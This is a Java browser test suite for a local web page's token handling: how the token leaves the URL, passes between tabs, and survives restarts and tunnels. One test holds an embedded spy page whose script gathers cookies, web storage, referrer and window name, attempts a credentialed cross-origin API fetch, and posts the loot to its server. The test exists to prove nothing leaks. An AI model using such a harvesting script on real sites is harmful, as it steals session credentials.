package workshop.page;

import static java.nio.charset.StandardCharsets.UTF_8;
import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assumptions.assumeThat;

import com.sun.net.httpserver.HttpExchange;
import com.sun.net.httpserver.HttpServer;
import java.io.IOException;
import java.net.Inet4Address;
import java.net.InetAddress;
import java.net.InetSocketAddress;
import java.net.NetworkInterface;
import java.nio.file.Path;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import java.util.concurrent.CopyOnWriteArrayList;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import support.Await;
import support.Browser;
import support.GuideFolder;
import support.Orders;
import support.Slow;
import workshop.notebook.Notebooks;
import workshop.wire.Backend;

/** How the page in a real browser gets its token, keeps it, and gives it to nobody else. */
@Slow
class PageTokenTest {
  private static Browser browser;

  private PageUnderTest server;
  private PageAddress page;

  @BeforeEach
  void start() throws Exception {
    if (browser == null) {
      browser = Browser.openOrSkip();
    }
    server = PageUnderTest.start();
    page = PageAddress.of(server.page);
    server.send(Orders.request());
    browser.complaints();
  }

  @AfterEach
  void stop() {
    if (server != null) {
      browser.load("about:blank"); // else the page would go on asking a server that is gone
      server.close();
    }
  }

  @AfterAll
  static void closeBrowser() {
    if (browser != null) {
      browser.close();
      browser = null;
    }
  }

  /**
   * A learner uses the page, and then clicks a link on a foreign page. It leads to a program that
   * listens on another port of this machine; a browser takes both ports for the same site.
   */
  @Test
  void aServerOnAnotherPortGetsNoCredential() throws Exception {
    List<String> heard = new CopyOnWriteArrayList<>();
    HttpServer spy =
        serve(
            http -> {
              heard.add(http.getRequestURI() + " " + Map.copyOf(http.getRequestHeaders()));
              heard.add(new String(http.getRequestBody().readAllBytes(), UTF_8));
              return """
              <!doctype html><title>spy</title><img src="/picture">
              <script>
                const own = [document.cookie, JSON.stringify(sessionStorage),
                  JSON.stringify(localStorage), document.referrer, window.name];
                const channel = new BroadcastChannel('token');
                channel.onmessage = ({data}) => own.push(JSON.stringify(data));
                channel.postMessage({wanted: true});
                fetch('%1$s/api/exchanges', {credentials: 'include'}).then((r) => r.text())
                  .then((text) => own.push(text), () => own.push('not read'))
                  .then(() => fetch('/told', {method: 'POST', body: own.join(' ')}));
              </script>
              """
                  .formatted(page.origin());
            });
    HttpServer foreign =
        serve(
            http ->
                "<!doctype html><title>foreign</title><a href='http://127.0.0.1:"
                    + spy.getAddress().getPort()
                    + "/'>A link</a>");
    try {
      browser.load(page.at(""));
      browser.untilRows("wire", 1);
      browser.inAnotherTab(
          () -> {
            browser.load(page.origin()); // while the page itself stays open
            browser.untilRows("wire", 1);
            browser.load("http://localhost:" + foreign.getAddress().getPort());
            browser.click("a");
            Await.until(
                "the spy told itself what it found",
                () -> heard.stream().anyMatch(each -> each.contains("not read")));
          });
    } finally {
      spy.stop(0);
      foreign.stop(0);
    }
    assertThat(heard)
        .anyMatch(each -> each.startsWith("/picture "))
        .noneMatch(each -> each.contains(page.token()))
        .noneMatch(each -> each.contains("Cookie=") || each.contains("Authorization="));
  }

  private interface Answer {
    String to(HttpExchange http) throws IOException;
  }

  private static HttpServer serve(Answer answer) throws IOException {
    HttpServer server =
        HttpServer.create(new InetSocketAddress(InetAddress.getLoopbackAddress(), 0), 0);
    server.createContext(
        "/",
        http -> {
          byte[] body = answer.to(http).getBytes(UTF_8);
          http.getResponseHeaders().set("Content-Type", "text/html");
          http.sendResponseHeaders(200, body.length);
          http.getResponseBody().write(body);
          http.close();
        });
    server.start();
    return server;
  }

  @Test
  void theTokenLeavesTheAddressAndAReloadOfADeepLinkWorks() throws Exception {
    browser.load(page.at("wire/1"));
    browser.untilText(".panel .json", "POST /orders");
    assertThat(address()).isEqualTo(page.origin() + "/#wire/1");

    browser.script("window.loadedOnce = true");
    browser.script("location.reload()");
    Await.until("it is another page", () -> browser.script("return window.loadedOnce") == null);
    browser.untilText(".panel .json", "POST /orders");
    assertThat(address()).isEqualTo(page.origin() + "/#wire/1");

    String trace = "traces/" + PageUnderTest.hex(Orders.TRACE);
    browser.load(page.origin() + "/#" + trace);
    browser.untilRows("waterfall", 2);
    assertThat(address()).isEqualTo(page.origin() + "/#" + trace);
    assertThat(browser.complaints()).isEmpty();
  }

  private static Object address() {
    return browser.script("return location.href");
  }

  @Test
  void aSecondTabAsksTheFirst() throws Exception {
    browser.load(page.at(""));
    browser.untilRows("wire", 1);
    browser.inAnotherTab(
        () -> {
          browser.load(page.origin() + "/#wire/1");
          browser.untilText(".panel .json", "POST /orders");

          browser.load(page.origin().replace("localhost", "127.0.0.1")); // of another origin
          browser.untilText("#no-token", "This page needs a token");
        });
    assertThat(browser.complaints()).isEmpty();
  }

  @Test
  void withoutATokenThePageOnlySaysHowToGetOne() throws Exception {
    browser.load(page.origin() + "/#wire/1");

    browser.untilText("body", "This page needs a token");
    assertThat(browser.text("body"))
        .contains("Open the address that the terminal printed after “page”.")
        .contains(page.origin() + "/#token=…")
        .doesNotContain("Invalid", "Wire", "exchange", "gRPC");
    assertThat(browser.complaints()).as("nothing was asked").isEmpty();
    PageAccessibilityTest.assertAccessible(browser, "the page without a token");

    browser.fragment("token=AAAAAAAAAAAAAAAAAAAAAA");
    browser.untilText("body", "Invalid or expired token");
    assertThat(browser.text("body")).doesNotContain("Wire", "exchange", "gRPC");
    assertThat(address()).isEqualTo(page.origin() + "/");

    browser.fragment("token=" + page.token() + "&wire/1");
    browser.untilText(".panel .json", "POST /orders");
    assertThat(browser.text("body")).doesNotContain("token");
  }

  /** The tab that is left open waits for the new token, which another tab brings. */
  @Test
  void aRestartedBackendHasANewToken() throws Exception {
    browser.load(page.at("traces"));
    browser.untilRows("traces", 1);
    browser.script("window.loadedOnce = true");
    Backend.Options samePorts = server.samePorts();
    int port = server.page.port();
    server.close();
    server = PageUnderTest.start(samePorts, port, null);

    browser.untilText("body", "Invalid or expired token");
    assertThat(browser.rows("traces")).isEmpty();
    server.send(PageUnderTest.order("after"));
    browser.inAnotherTab(
        () -> {
          browser.load(PageAddress.of(server.page).at(""));
          browser.untilRows("wire", 1);
        });
    Await.until(
        "the new trace", // in place of the one that the page still knew
        () -> browser.rows("traces").stream().anyMatch(row -> row.contains("after")));
    browser.untilRows("traces", 1);
    assertThat(browser.script("return window.loadedOnce")).isEqualTo(true);
  }

  @Test
  void fromAnotherAddressThePageReadsAndRunsNothing(@TempDir Path temp) throws Exception {
    Optional<InetAddress> address =
        NetworkInterface.networkInterfaces()
            .flatMap(NetworkInterface::inetAddresses)
            .filter(each -> each instanceof Inet4Address && !each.isLoopbackAddress())
            .findFirst();
    assumeThat(address).as("an address beside loopback").isPresent();
    InetAddress everywhere = InetAddress.getByName("0.0.0.0");
    try (Notebooks notebooks = new Notebooks(GuideFolder.in(temp), server.backend);
        Page open = Page.start(everywhere, 0, server.backend, null, notebooks)) {
      PageAddress here = PageAddress.of(open);
      assertThat(here.origin()).isEqualTo("http://127.0.0.1:" + open.port());
      String origin = "http://" + address.get().getHostAddress() + ":" + open.port();
      browser.load(origin);
      browser.untilText("body", "This page needs a token");

      browser.load(new PageAddress(origin, here.token()).at(""));
      browser.untilRows("wire", 1);
      browser.untilText("#notebook", "Only a browser on the backend’s own machine can run code.");
      assertThat(browser.text("#notebook button")).isEmpty();
      browser.load("about:blank");
    }
  }

  @Test
  void throughAForwardedPortTheStreamHealsAfterACut() throws Exception {
    try (Tunnel tunnel = new Tunnel(server.page.port())) {
      PageAddress there = new PageAddress("http://localhost:" + tunnel.port(), page.token());
      browser.load(there.at(""));
      browser.untilRows("wire", 1);
      browser.script("window.loadedOnce = true");
      browser.click(".listing [aria-haspopup=dialog]");
      browser.type("2x 503\n");
      browser.untilText("dialog .waiting", "2x 503");
      server.backend.faults().clear();
      browser.click("dialog [aria-label=Close]");

      tunnel.cut();
      browser.untilText("#lost", "The backend does not respond.");
      server.send(Orders.request());
      assertThat(browser.rows("wire")).hasSize(1);

      tunnel.mend();
      browser.untilRows("wire", 2);
      Await.until("the connection is back", () -> browser.text("#lost").isEmpty());
      server.send(Orders.request());
      browser.untilRows("wire", 3);
      assertThat(browser.script("return window.loadedOnce")).isEqualTo(true);
      browser.load("about:blank");
    }
  }
}
